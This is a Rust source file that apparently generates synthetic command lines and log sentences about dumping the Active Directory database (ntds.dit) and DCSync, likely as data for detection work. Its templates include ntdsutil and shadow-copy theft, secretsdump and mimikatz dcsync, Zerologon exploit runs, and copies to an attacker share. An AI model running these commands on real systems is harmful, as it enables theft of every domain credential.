//! The domain's database and replication (T1003.003, T1003.006): the same tools
//! and words as the local account database, another store.

use crate::generate::family::{Family, Kind::Cmd, Kind::Console, Kind::Ps, Kind::Sh, Kind::Told};

pub const FAMILIES: &[Family] = &[
    Family::other("ntdsutil-ifm", "ntds-ifm", Cmd, &[
        concat!(
            r#"{n} "{a}" «ifm¦"ifm"¦i» "«create full¦cr fu¦create sysvol full¦create rodc¦create nodefrag "#,
            r#"full» {d}" «q q¦quit quit¦q q q»"#,
        ),
        concat!(
            r#"{n} "{a}" "ifm" "create full {d}" q q & «dir /s {d}¦tar -cf {stem}.tar {d}¦7z a {stem}.zip "#,
            r"{d}¦xcopy /e {d} \\{attacker}\{share}\»",
        ),
        concat!(
            "echo {a}> {stem}.txt & echo ifm>> {stem}.txt & echo create full {d}>> {stem}.txt & ntdsutil < ",
            "{stem}.txt",
        ),
        r#"cmd /c "{n} "{a}" ifm "create full {d}" q q""#,
        r#"wmic /node:{host} process call create "ntdsutil \"{a}\" ifm \"create full {d}\" q q""#,
        concat!(
            r#"schtasks /create /ru SYSTEM /sc once /st {10..23}:{10..59} /tn {stem} /tr "ntdsutil '{a}' ifm "#,
            r#"'create full {d}' q q""#,
        ),
        r#"psexec \\{host} -s {n} "{a}" "ifm" "create full {d}" q q"#,
        r#"{n} "{a}" snapshot create quit quit"#,
        r#"{n} snapshot "«list all¦list mounted¦mount {1..9}¦unmount {GUID}¦delete {GUID}»" quit quit"#,
        "{n}⏎«activate instance ntds¦ac i ntds»⏎ifm⏎create full {d}⏎quit⏎quit",
        r#"ntdsutil: activate instance ntds⏎Active instance set to "ntds".⏎ntdsutil: ifm⏎ifm: create full {d}"#,
        r#"{n} "{a}" files «info¦integrity¦"compact to {d}"» q q"#,
        r#"{n} "{a}" "semantic database analysis" go q q"#,
        r#"{n} "local roles" "show role administrators" q q"#,
        r#"{n} "authoritative restore" "restore subtree OU={stem},DC={company},DC=com" q q"#,
        r#"{n} "partition management" connections "connect to server {host}" q list q q"#,
        r#"{n} "set dsrm password" "«sync from domain account {user}¦reset password on server null»" q q"#,
        r#"{n} "group membership evaluation" "run {domain} {user}" q q"#,
    ])
    .slots(&[
        ("n", r#"«ntdsutil¦ntdsutil.exe¦NTDSUTIL¦C:\Windows\System32\ntdsutil.exe¦"C:\Windows\system32\ntdsutil.exe"»"#),
        ("a", "«ac i ntds¦activate instance ntds¦ac in ntds¦act ins ntds»"),
        ("d", r"«{dir}\{stem}¦{dir}¦C:\ntds¦C:\IFM¦C:\{stem}»"),
    ])
    .weight(12),
    Family::other("ntds-copy", "ntds-copy", Cmd, &[
        "copy {n} {o}",
        "«vssadmin¦vssadmin.exe» create shadow /for=«C:¦D:¦E:»«&&¦ && ¦ & ¦⏎»copy {sn} {o}",
        "vssadmin create shadow /for=C: 2>&1⏎copy {sn} {o}⏎vssadmin delete shadows /all /quiet",
        "esentutl«.exe» /y /vss {n} /d {o}",
        "esentutl.exe /y {sn} /d {o} /o",
        r"robocopy «{windir}\NTDS¦{shadow}\Windows\NTDS» {dir} ntds.dit «/b¦/zb¦/b /r:0»",
        "ninjacopy -path {n} -localdestination {o}",
        concat!(
            r#"wmic /node:{host} /user:{domain}\{user} /password:{password} process call create "cmd /c copy "#,
            r#"{sn} {o}""#,
        ),
        r"wmic shadowcopy call create Volume=C:\ & copy {sn} {o}",
        r"mklink /d {link.1} {shadow}\ & copy {link.1}\Windows\NTDS\ntds.dit {o}",
        r"diskshadow /s {dir}\{stem}.txt & copy z:\windows\ntds\ntds.dit {o}",
        concat!(
            "set context persistent nowriters⏎add volume c: alias {stem.1}⏎create⏎expose %{stem.1}% z:⏎exec ",
            r#""cmd.exe" /c copy z:\windows\ntds\ntds.dit {o}⏎delete shadows volume %{stem.1}%⏎reset"#,
        ),
        r"wbadmin start backup -backuptarget:\\{host}\{share} -include:{windir}\NTDS\ntds.dit -quiet",
        concat!(
            "wbadmin start recovery -version:{isodate}-{10..23}:{10..59} -itemtype:file ",
            r"-items:{windir}\NTDS\ntds.dit -recoverytarget:{dir} -notrestoreacl -quiet",
        ),
        "RawCopy«64».exe /FileNamePath:{n} /OutputPath:{dir}",
        r"7z a -p{password} {stem}.7z {dir}\ntds.dit",
        r"rar a -v500m {stem}.rar {dir}\ntds.dit",
        r"makecab {dir}\ntds.dit {stem}.cab",
        r"certutil -encode {dir}\ntds.dit {stem}.b64",
        r"dir {windir}\NTDS & fsutil volume diskfree C:",
        r#"reg query HKLM\SYSTEM\CurrentControlSet\Services\NTDS\Parameters /v "DSA Database file""#,
        r"esentutl /mh {dir}\ntds.dit",
        r"esentutl /p {dir}\ntds.dit /!10240 /8 /o",
        r"net stop ntds /y & copy {windir}\ntds\ntds.dit {o} & net start ntds",
        "vshadow.exe -p -nw C: & copy {sn} {o}",
        r"shadowspawn {windir}\ntds Q: robocopy Q:\ {dir} ntds.dit",
        r"NTDSDumpEx.exe -d {dir}\ntds.dit -o {stem}.txt",
        r"xcopy {sn} \\{attacker}\{share}\ /y",
    ])
    .slots(&[
        ("n", r"«{windir}\NTDS\ntds.dit¦C:\Windows\NTDS\NTDS.dit¦\\{host}\C$\Windows\NTDS\ntds.dit¦D:\NTDS\ntds.dit»"),
        ("sn", r"«{shadow}\Windows\NTDS\ntds.dit¦{shadow}\windows\ntds\ntds.dit¦{shadow}\NTDS\NTDS.dit»"),
        ("o", r"«{dir}\ntds.dit¦{dir}\{stem}.{anyext}¦ntds.dit¦{outfile}¦\\{attacker}\{share}\ntds.dit»"),
    ])
    .weight(12),
    Family::other("ntds-powershell", "ntds-powershell", Ps, &[
        "Copy-Item «-LiteralPath ¦-Path ¦»'{f}' -Destination {psout}",
        "[System.IO.File]::Copy('{f}', '{outfile}')",
        concat!(
            r"$s = (Get-WmiObject -List Win32_ShadowCopy).Create('C:\','ClientAccessible'); $v = ",
            "(Get-WmiObject Win32_ShadowCopy | ? { $_.ID -eq $s.ShadowID }).DeviceObject; cmd /c copy ",
            r#""$v\Windows\NTDS\ntds.dit" {psout}"#,
        ),
        r"Invoke-NinjaCopy -Path 'C:\Windows\NTDS\ntds.dit' -LocalDestination {psout}« -ComputerName {host}»",
        concat!(
            r"Get-ADDBAccount -All -DBPath {psdir}\ntds.dit -BootKey {hex32}« | Format-Custom -View HashcatNT ",
            "| Out-File {psout}»",
        ),
        "Get-ADReplAccount -All -Server {fqdn}« -NamingContext 'DC={company},DC=com'»« | Out-File {psout}»",
        "Get-ADReplAccount -SamAccountName «krbtgt¦{user}» -Domain {domain} -Server {fqdn} -Protocol TCP",
        concat!(
            "Invoke-DCSync« -PWDumpFormat¦ -GetComputers -DumpForest¦ -UserFilter 'admin'» ",
            "«-DomainController {fqdn}¦»",
        ),
        r#"Invoke-Mimikatz -Command '"lsadump::dcsync /domain:{domain} /user:«krbtgt¦{user}¦all /csv»"'"#,
        r"ntdsutil.exe 'ac i ntds' 'ifm' 'create full {dir}\{stem}' q q | Out-Null",
        concat!(
            r#"Invoke-Command -ComputerName {fqdn} -ScriptBlock { ntdsutil "ac i ntds" "ifm" "create full "#,
            r#"{dir}" q q; Compress-Archive {dir} {dir}\{stem}.zip }"#,
        ),
        "Add-DomainObjectAcl -TargetIdentity 'DC={company},DC=local' -PrincipalIdentity {user} -Rights DCSync",
        concat!(
            r#"Add-ObjectAcl -TargetDistinguishedName "dc={company},dc=local" -PrincipalSamAccountName {user} "#,
            "-Rights DCSync -Verbose",
        ),
        concat!(
            r"(Get-Acl 'AD:\DC={company},DC=com').Access | ? { $_.ObjectType -match ",
            "'1131f6a«a¦d»-9c07-11d1-f79f-00c04fc2dcd2' }",
        ),
        "Install-Module DSInternals -Force; Test-PasswordQuality -WeakPasswordHashesFile {stem}.txt",
        r"Copy-VSS -DestinationDir {psdir} -Path 'Windows\NTDS\ntds.dit'",
        concat!(
            r#"Start-Process ntdsutil -ArgumentList '"ac i ntds" ifm "create full {dir}" q q' -WindowStyle "#,
            "Hidden -Wait",
        ),
        r"Copy-Item -FromSession $dc {dir}\ntds.dit -Destination {psdir}",
        concat!(
            r"Get-ItemProperty 'HKLM:\SYSTEM\CurrentControlSet\Services\NTDS\Parameters' | Select 'DSA ",
            "Database file','Database log files path'",
        ),
        concat!(
            "Get-WmiObject Win32_ShadowCopy -ComputerName {host} | % { $_.DeviceObject + ",
            r"'\Windows\NTDS\ntds.dit' }",
        ),
    ])
    .slots(&[
        ("f", concat!(
                r"«C:\Windows\NTDS\ntds.dit¦{shadow}\Windows\NTDS\ntds.dit¦\\{host}\C$\Windows\NTDS\NTDS.dit¦{psdi",
                r"r}\ntds.dit»",
            )),
    ]),
    Family::other("ntds-unix", "ntds-unix", Sh, &[
        "{sd} ⟦{target}¦{dc}¦«{impauth}»⟧« | tee {shout}»",
        "{sd} {dc} {target}« -outputfile {shout}»",
        "{sd} -dc-ip {ip} {dc} '{domain}/{user}:{password}@{fqdn}'",
        "{sd} {dc} -hashes {hashes} '{domain}/{plainhost}$@{ip}'",
        "{sd} {dc} -no-pass '{domain}/{plainhost}$'@{ip}",
        "KRB5CCNAME={user}.ccache {sd} {dc} -k -no-pass {user}@{fqdn}",
        "{sd} -ntds {ntdscopy} -system {sys} LOCAL« -outputfile {shout}»« -history»",
        "proxychains -q {sd} {dc} {domain}/{user}:{password}@{ip}",
        "{nxc} smb {nxctarget} {nxcauth} --ntds«  vss¦ drsuapi¦ --user {user}¦ --enabled¦ | tee {shout}»",
        "{nxc} smb {fqdn} {nxcauth} -M «ntdsutil¦ntds-dump-raw¦timeroast¦enum_trusts¦ldap-checker»",
        concat!(
            "{nxc} ldap {fqdn} {nxcauth} «--dcsync¦--kerberoasting {shout}¦--asreproast ",
            "{shout}¦--gmsa¦--trusted-for-delegation¦--admin-count¦--users¦--password-not-required»",
        ),
        concat!(
            "esedbexport -m tables {ntdscopy} && dsusers.py {ntdscopy}.export/datatable.4 ",
            "{ntdscopy}.export/link_table.7 {shdir} --ntoutfile {stem} --pwdformat ocl",
        ),
        concat!(
            "ntdsxtract/dsusers.py datatable.3 link_table.5 {shdir} --lmoutfile lm.out --ntoutfile nt.out ",
            "--pwdformat john",
        ),
        "gosecretsdump -ntds {ntdscopy} -system {sys} -out {stem}",
        "ntdissector -ntds {ntdscopy} -system {sys} -outputdir {shdir}",
        r"smbclient //{ip}/C$ -U '{domain}/{user}%{password}' -c 'get Windows\NTDS\ntds.dit {stem}'",
        "scp {user}@{host}:'C:/temp/ntds.dit' {shdir}",
        "{python} dcsync.py -d {domain} -u {user} -p {password} {ip}",
        "mimikatz-dcsync -u {user} -d {domain}",
        concat!(
            "dacledit.py -action write -rights DCSync -principal {user} -target-dn 'DC={company},DC=local' ",
            "{domain}/{user}:{password}",
        ),
        "bloodyAD --host {ip} -d {domain} -u {user} -p {password} add dcsync {user}",
        "{i}raiseChild.py -target-exec {ip} {domain}/{user}",
        "aclpwn.py -f {user} -t {domain} --domain {domain} --server {ip}",
        "zerologon_tester.py {plainhost} {ip}; cve-2020-1472-exploit.py {plainhost} {ip}",
        "samba-tool drs clone-dc-database {domain} --targetdir={shdir} --include-secrets",
        r"adidnsdump -u {domain}\\{user} -p {password} {ip}",
    ])
    .slots(&[
        ("sd", concat!(
                "«proxychains secretsdump.py¦proxychains4 -q impacket-secretsdump¦secretsdump.py¦impacket-secrets",
                "dump¦{python} {impketdir}secretsdump.py»",
            )),
        ("sys", "«system¦SYSTEM¦system.hive¦system.save¦{stem}/registry/SYSTEM¦./SYSTEM¦sys.bak»"),
        ("dc", concat!(
                "«-just-dc¦-just-dc-ntlm¦-just-dc-user {user}¦-just-dc-user krbtgt¦-just-dc-user ",
                "'{domain}/krbtgt'¦-just-dc -pwd-last-set -user-status -history¦-just-dc-ntlm -user-status»",
            )),
        ("i", "«impacket-¦»"),
    ])
    .weight(14),
    Family::other("ntds-console", "ntds-console", Console, &[
        concat!(
            r"beacon> «dcsync {domain} {domain}\krbtgt¦dcsync {domain}¦mimikatz lsadump::dcsync ",
            r#"/user:{user}¦mimikatz @lsadump::dcsync /domain:{domain} /user:krbtgt¦shell ntdsutil "ac i ntds" "#,
            r#""ifm" "create full {dir}" q q¦shell vssadmin create shadow /for=C:¦download {dir}\Active "#,
            r"Directory\ntds.dit¦shell copy {shadow}\Windows\NTDS\ntds.dit {dir}»",
        ),
        r"[*] Tasked beacon to run mimikatz's @lsadump::dcsync /domain:{domain} /user:{domain}\krbtgt command",
        concat!(
            r#"meterpreter > «dcsync krbtgt¦dcsync_ntlm {user}¦kiwi_cmd "lsadump::dcsync "#,
            r#"/user:{domain}\\krbtgt"¦load kiwi⏎meterpreter > dcsync_ntlm krbtgt¦run "#,
            "post/windows/gather/ntds_grabber¦run post/windows/gather/credentials/domain_hashdump»",
        ),
        concat!(
            "use auxiliary/admin/«dcerpc/cve_2020_1472_zerologon¦ldap/rbcd¦kerberos/get_ticket»⏎set RHOSTS ",
            "{ip}⏎run",
        ),
        concat!(
            "use post/windows/gather/«ntds_location¦ntds_grabber¦credentials/domain_hashdump¦enum_ad_users¦en",
            "um_ad_service_principal_names»⏎set SESSION {1..9}⏎run",
        ),
        "use auxiliary/gather/ntds_«dump¦extract»⏎set SMBUser {user}⏎run",
        concat!(
            "mimikatz # lsadump::dcsync /domain:{domain} /«user:krbtgt¦user:{user}¦all ",
            "/csv¦guid:{guid}»⏎«[DC] '{domain}' will be the domain»",
        ),
        concat!(
            "mimikatz # lsadump::«dcshadow /object:{user} /attribute:primaryGroupID /value:512¦dcshadow ",
            "/push¦lsa /patch¦lsa /inject /name:krbtgt¦trust /patch¦netsync /dc:{fqdn} /user:{plainhost}$ ",
            "/ntlm:{nthash}¦backupkeys /system:{fqdn} /export¦zerologon /target:{ip} ",
            "/account:{plainhost}$¦postzerologon /target:{ip} /account:{plainhost}$»",
        ),
        concat!(
            "(Empire: {ALNUM8}) > usemodule «powershell/credentials/mimikatz/dcsync⏎set user {user}⏎set ",
            "domain {domain}¦powershell/credentials/mimikatz/dcsync_hashdump¦powershell/credentials/mimikatz/",
            "lsadump»⏎execute",
        ),
        concat!(
            r#"sliver ({ALNUM8}) > «sideload {shdir}/mimikatz.exe "lsadump::dcsync /user:krbtgt"¦execute -o "#,
            r#"ntdsutil "ac i ntds" ifm "create full {dir}" q q¦execute-assembly SharpKatz.exe --Command "#,
            "dcsync --User {user} --Domain {domain}»",
        ),
        concat!(
            "demon > dotnet inline-execute {shdir}/SharpKatz.exe --Command dcsync --User krbtgt --Domain ",
            "{domain} --DomainController {fqdn}",
        ),
        concat!(
            r#"covenant> «DCSync {user}¦Mimikatz "lsadump::dcsync /user:krbtgt"¦ShellCmd vssadmin create "#,
            "shadow /for=C:»",
        ),
        concat!(
            r#"mythic> «dcsync -Domain {domain} -User krbtgt -DC {fqdn}¦mimikatz -Command "lsadump::dcsync "#,
            r#"/user:{user}"»"#,
        ),
        concat!(
            "sharpkatz --Command «dcsync --Domain {domain} --User krbtgt¦zerologon --Mode check --Target ",
            "{fqdn} --MachineAccount {plainhost}$»",
        ),
        r#"PoshC2> «invoke-dcsync¦invoke-mimikatz -command "lsadump::dcsync /user:{user}"¦get-ntds»"#,
        "koadic: sta> use implant/gather/hashdump_dc⏎set ZOMBIE {0..9}⏎run",
    ]),
    Family::other("ntds-told", "ntds-told", Told, &[
        concat!(
            "{who} «copied¦stole¦exfiltrated¦extracted» «the NTDS.dit file¦ntds.dit¦the Active Directory ",
            "database¦the domain database» «from a volume shadow copy¦with ntdsutil¦using esentutl¦over ",
            "SMB¦from a backup»{where}.",
        ),
        concat!(
            "{who} «ran¦performed¦executed» «a DCSync attack¦DCSync for the krbtgt ",
            "account¦lsadump::dcsync¦secretsdump -just-dc» against {fqdn}.",
        ),
        "ntdsutil.exe created an «IFM¦install from media» set in {dir}{where}.",
        concat!(
            "Replication rights DS-Replication-Get-Changes-All were «used¦granted to {user}¦exercised by ",
            "{account}» on {isodate}.",
        ),
        concat!(
            "An operation was performed on an object. Object Server: DS Object Type: domainDNS Properties: ",
            "Control Access {1131f6ad-9c07-11d1-f79f-00c04fc2dcd2} Account Name: {user}",
        ),
        concat!(
            "NTDS ({pid},D,{0..9}) The database engine «created¦attached¦detached¦stopped» a «new ",
            r"database¦database» ({1..3}, {dir}\ntds.dit).",
        ),
        concat!(
            r"ESENT event {102..330}: ntdsutil ({pid}) the database {dir}\Active Directory\ntds.dit was ",
            "«created¦copied¦detached»",
        ),
        "{who} registered a rogue domain controller with DCShadow{where}.",
        "The krbtgt password was «reset twice¦changed» on {fqdn} after the incident.",
        "{who} decrypted NTDS.dit offline and cracked {1..5000} domain hashes.",
        "«Alert¦Detection»: suspected DCSync attack (replication of directory services) from {ip}",
        "{who} exploited Zerologon (CVE-2020-1472) on {fqdn} and reset the machine account.",
        r"Shadow copy created on {fqdn}, followed by access to Windows\NTDS\ntds.dit.",
        "The backup job copied ntds.dit of {fqdn} to {dir} as part of the system state.",
        "Domain password hashes were taken from the domain controller {fqdn} with {t}.",
        concat!(
            r"File created: Image: C:\Windows\System32\ntdsutil.exe TargetFilename: {dir}\Active ",
            r"Directory\ntds.dit",
        ),
    ])
    .slots(&[
        ("t", "«mimikatz¦secretsdump¦DSInternals¦CrackMapExec --ntds¦ntdsutil¦an IFM set¦Invoke-DCSync»"),
    ]),
    Family::other("shadow-copy-other", "shadow-no-hive", Cmd, &[
        "{v} create shadow /for={root}« /autoretry={1..9}»",
        concat!(
            "{v} list «shadows¦shadows /for={root}¦writers¦providers¦volumes¦shadowstorage»« > {outfile}¦ | ",
            r#"find "Creation"»"#,
        ),
        concat!(
            "{v} delete shadows «/all /quiet¦/for={root} /all /quiet¦/for={root} /oldest ",
            "/quiet¦/shadow={{GUID}} /quiet»",
        ),
        "{v} resize shadowstorage /for={root} /on={root} /maxsize=«401MB¦{1..40}%¦unbounded»",
        concat!(
            "wmic« /node:{host}» shadowcopy «list¦delete¦list brief¦get DeviceObject,InstallDate¦call create ",
            r#"Volume='{root}\'¦where "ID='{{GUID}}'" delete»"#,
        ),
        "copy {f} {outfile}",
        "«type¦more <» {f} > {outfile}",
        "xcopy {f} {outdir} /h /y",
        r"robocopy {shadow}\{d} {dir} «*.docx¦*.pst¦*.kdbx¦{stem}.{anyext}¦/mir»",
        r"dir «/s /b ¦/a »{shadow}\{d}",
        r"mklink /d {link} {shadow}\« & dir {link}¦ & robocopy {link}\{d} {dir} /mir¦»",
        "diskshadow /s {stem}.dsh",
        concat!(
            "diskshadow⏎«set context persistent⏎set verbose on⏎»add volume {root} alias ",
            "{alnum5.1}⏎create⏎expose %{alnum5.1}% {link}⏎exit",
        ),
        concat!(
            "diskshadow> «list shadows all¦delete shadows all¦expose {{GUID}} X:¦import¦simulate ",
            "restore¦list providers¦list writers status»",
        ),
        r"diskshadow.exe -exec {dir}\{stem}.exe",
        "vshadow «-p {root}¦-nw -exec={stem}.exe {root}¦-el={{GUID}},{link}¦-q¦-da¦-script={stem}.cmd C:»",
        concat!(
            "wbadmin «start backup -backupTarget:{link} -include:{root} -vssFull -quiet¦delete backup ",
            "-keepVersions:0 -quiet¦delete systemstatebackup -keepversions:0¦get versions¦get items ",
            "-version:{isodate}-{10..23}:{10..59}¦start systemstatebackup -backupTarget:{link} -quiet¦delete ",
            "catalog -quiet»",
        ),
        "esentutl /y /vss {f} /d {outfile}",
        r"fsutil volume list & {v} list shadows & dir {shadow}\Users",
        r"{v} create shadow /for=D: & robocopy {shadow}\SQL {dir} *.mdf /b",
        r"rundll32.exe {dir}\{stem}.dll,CreateShadow C:",
        r#""C:\Windows\System32\SystemPropertiesProtection.exe""#,
        r#"powershell "Checkpoint-Computer -Description {stem} -RestorePointType MODIFY_SETTINGS""#,
        concat!(
            r#"powershell -c "Get-WmiObject Win32_ShadowCopy | «Remove-WmiObject¦Select DeviceObject¦% { "#,
            r#"$_.Delete() }»""#,
        ),
        r"previousversions.exe & start \\localhost\C$\@GMT-{year}.0{1..9}.{10..28}-{10..23}.{10..59}.00\{d}",
    ])
    .slots(&[
        ("v", r"«vssadmin¦vssadmin.exe¦VSSADMIN.EXE¦C:\Windows\System32\vssadmin.exe¦%windir%\system32\vssadmin.exe»"),
        ("f", concat!(
                r"«{shadowother}¦{shadow}\Users\{user}\AppData\Local\Google\Chrome\User Data\Default\Login ",
                r"Data¦{shadow}\Users\{user}\Documents\{stem}.xlsx¦{shadow}\pagefile.sys¦{shadow}\Windows\System32",
                r"\winevt\Logs\Security.evtx¦{shadow}\inetpub\logs\{stem}.log»",
            )),
        ("d", r"«Users\{user}\Documents¦inetpub\wwwroot¦{stem}¦Windows\NTDS¦ProgramData\{vendor}¦Users¦SQLData»"),
    ])
    .weight(14),
];
